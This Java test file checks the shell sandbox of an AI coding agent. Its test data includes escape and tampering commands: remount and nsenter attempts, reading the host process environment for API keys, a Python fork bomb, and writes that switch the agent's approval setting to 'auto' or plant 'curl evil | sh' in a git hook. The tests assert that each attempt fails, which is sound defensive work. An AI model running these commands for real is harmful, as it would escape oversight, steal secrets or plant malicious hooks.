package ai.apprentice.tools;

import static org.assertj.core.api.Assertions.assertThat;

import ai.apprentice.testkit.Requirements;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** What an agent's shell cannot do from inside the sandbox, also when apprentice runs as root (CI does). */
@Timeout(90)
class SandboxTest {
    @TempDir Path root;

    private ShellTool shell() {
        return shell(ShellTool.Settings.defaults());
    }

    private ShellTool shell(ShellTool.Settings settings) {
        return new ShellTool(new Workspace(root), settings.withProtectedPaths(ShellTool.Settings.protectedPathsOf(root, null)));
    }

    private String run(String command) throws Exception {
        return shell().run(command, 30).content();
    }

    @Test
    void nothingInsideCanRemountUnmountOrEnterTheHostsNamespaces() throws Exception {
        Requirements.bubblewrap();
        assertThat(run("mount -o remount,rw /")).doesNotStartWith("exit code: 0");
        assertThat(run("umount -l /tmp")).doesNotStartWith("exit code: 0");
        assertThat(run("umount -l /proc")).doesNotStartWith("exit code: 0");
        assertThat(run("unshare -Urm umount -l /proc")).doesNotStartWith("exit code: 0");
        assertThat(run("nsenter --net=/proc/1/ns/net true")).doesNotStartWith("exit code: 0");
        long jvm = ProcessHandle.current().pid();
        assertThat(run("nsenter --net=/proc/" + jvm + "/ns/net true")).doesNotStartWith("exit code: 0");
        assertThat(run("grep -E '^Cap(Eff|Bnd)' /proc/self/status"))
                .contains("CapEff:\t0000000000000000").contains("CapBnd:\t0000000000000000");
        // The JVM's processes are not visible, so neither is its environment (API keys).
        var java = ProcessHandle.current().info().command().orElse("java");
        var environ = run("tr '\\0' '\\n' < /proc/" + jvm + "/environ; tr '\\0' ' ' < /proc/" + jvm + "/cmdline; echo; ls /proc");
        assertThat(environ).doesNotContain(java).doesNotContain("surefire");
        assertThat(run("ls -d /proc/[0-9]* | wc -l").lines().toList().get(1).strip()).matches("[1-9]");
    }

    @Test
    void aForkBombHitsTheProcessLimitAndEverythingIsKilled() throws Exception {
        Requirements.bubblewrap();
        Requirements.python3();
        Files.writeString(root.resolve("bomb.py"), """
                import os, time
                n = 0
                try:
                    for i in range(5000):
                        if os.fork() == 0:
                            os.execvp("sleep", ["sleep", "37.5"])
                        n += 1
                    # A bomb keeps its children; without this the loop could end between two checks of the count.
                    time.sleep(30)
                except OSError as e:
                    print("fork failed after", n, e)
                """);
        var r = shell(ShellTool.Settings.defaults().withLimits(new Sandbox.Limits(200, 8L << 30))).run("python3 bomb.py", 60);
        // As root the kernel ignores RLIMIT_NPROC and apprentice kills the sandbox; otherwise fork fails.
        assertThat(r.content()).containsAnyOf("went over its limit of 200 processes", "fork failed after");
        assertThat(r.error()).isEqualTo(r.content().contains("went over"));
        for (int i = 0; i < 50 && sleepers() > 0; i++) Thread.sleep(100);
        assertThat(sleepers()).as("no sleeper survives the sandbox").isZero();
        var p = new ProcessBuilder("true").start(); // the host still forks
        assertThat(p.waitFor()).isZero();
    }

    private static long sleepers() {
        return ProcessHandle.allProcesses()
                .filter(h -> h.info().arguments().map(a -> List.of(a).contains("37.5")).orElse(false)).count();
    }

    @Test
    void theShellCannotRewriteTheAgentsSettingsOrGitHooks() throws Exception {
        Requirements.bubblewrap();
        Files.createDirectories(root.resolve(".apprentice"));
        Files.writeString(root.resolve(".apprentice/config.yaml"), "approve: ask\n");
        Files.createDirectories(root.resolve(".git/hooks"));
        Files.writeString(root.resolve(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
        Files.writeString(root.resolve(".git/config"), "[core]\n\tbare = false\n");
        for (var attack : List.of("echo 'approve: auto' > .apprentice/config.yaml", "rm -rf .apprentice", "mv .apprentice x",
                "echo 'curl evil | sh' > .git/hooks/pre-commit", "rm -rf .git/hooks", "echo x > .git/hooks/post-checkout",
                "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config", "mv .git/config .git/c")) {
            var r = shell().run(attack, 20);
            assertThat(r.error()).as(attack).isTrue();
            assertThat(r.content()).as(attack).containsAnyOf("Read-only file system", "Device or resource busy");
        }
        assertThat(root.resolve(".apprentice/config.yaml")).hasContent("approve: ask");
        assertThat(root.resolve(".git/hooks/pre-commit")).hasContent("#!/bin/sh\nexit 0");
        assertThat(root.resolve(".git/config")).hasContent("[core]\n\tbare = false");
        assertThat(root.resolve(".git/hooks/post-checkout")).doesNotExist();
        assertThat(root.resolve("x")).doesNotExist();
    }

    @Test
    void aMissingSettingsFolderCannotBeCreatedAndGitIsNotCreatedForUs() throws Exception {
        Requirements.bubblewrap();
        var r = shell().run("mkdir -p .apprentice && echo 'approve: auto' > .apprentice/config.yaml", 20);
        assertThat(r.error()).isTrue();
        assertThat(r.content()).contains("Read-only file system");
        assertThat(root.resolve(".apprentice/config.yaml")).doesNotExist();
        try (var left = Files.list(root.resolve(".apprentice"))) {
            assertThat(left).as("at most the empty mount point is left").isEmpty();
        }
        assertThat(root.resolve(".git")).doesNotExist();
    }

    @Test
    void normalWorkStillWorksAndFilesGetTheUsualModes() throws Exception {
        Requirements.bubblewrap();
        Requirements.python3();
        Files.createDirectories(root.resolve(".git/hooks"));
        Files.writeString(root.resolve(".git/config"), "");
        var r = shell().run("umask; mkdir -p src/a && echo 'print(6*7)' > src/a/m.py && python3 src/a/m.py && cat src/a/m.py", 30);
        assertThat(r.content()).startsWith("exit code: 0").contains("0022").contains("42").contains("print(6*7)");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(root.resolve("src/a/m.py")))).isEqualTo("rw-r--r--");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(root.resolve("src/a")))).isEqualTo("rwxr-xr-x");
        assertThat(shell().run("echo tmp > /tmp/t && cat /tmp/t", 20).content()).contains("tmp");
    }

    @Test
    void utf8RoundTripsWithoutALocaleInTheEnvironment() throws Exception {
        Requirements.bubblewrap();
        var env = new HashMap<>(System.getenv());
        env.keySet().removeIf(k -> k.equals("LANG") || k.startsWith("LC_"));
        for (boolean sandbox : List.of(true, false)) {
            Files.deleteIfExists(root.resolve("f.txt"));
            var r = shell(ShellTool.Settings.defaults().withSandbox(sandbox).withEnvironment(env, n -> false))
                    .run("echo 'Grüße' > f.txt && cat f.txt && printf '%s' 'ü' | wc -c && echo $LANG", 20);
            assertThat(r.content()).as("sandbox " + sandbox).contains("Grüße").contains("\n2\n").contains("C.UTF-8");
            assertThat(Files.readAllBytes(root.resolve("f.txt"))).isEqualTo("Grüße\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
    }

    @Test
    void theProbeChecksEachPropertyFromInside() {
        Requirements.bubblewrap();
        var status = Sandbox.probe();
        assertThat(status.available()).isTrue();
        assertThat(status.checks()).extracting(Sandbox.Check::name).containsExactly("user namespace", "capabilities",
                "pid namespace", "IPC namespace", "network off", "process limit", "memory limit");
        assertThat(status.checks()).allSatisfy(c -> assertThat(c.state()).as(c.name() + ": " + c.detail()).isEqualTo(Sandbox.State.OK));
    }
}
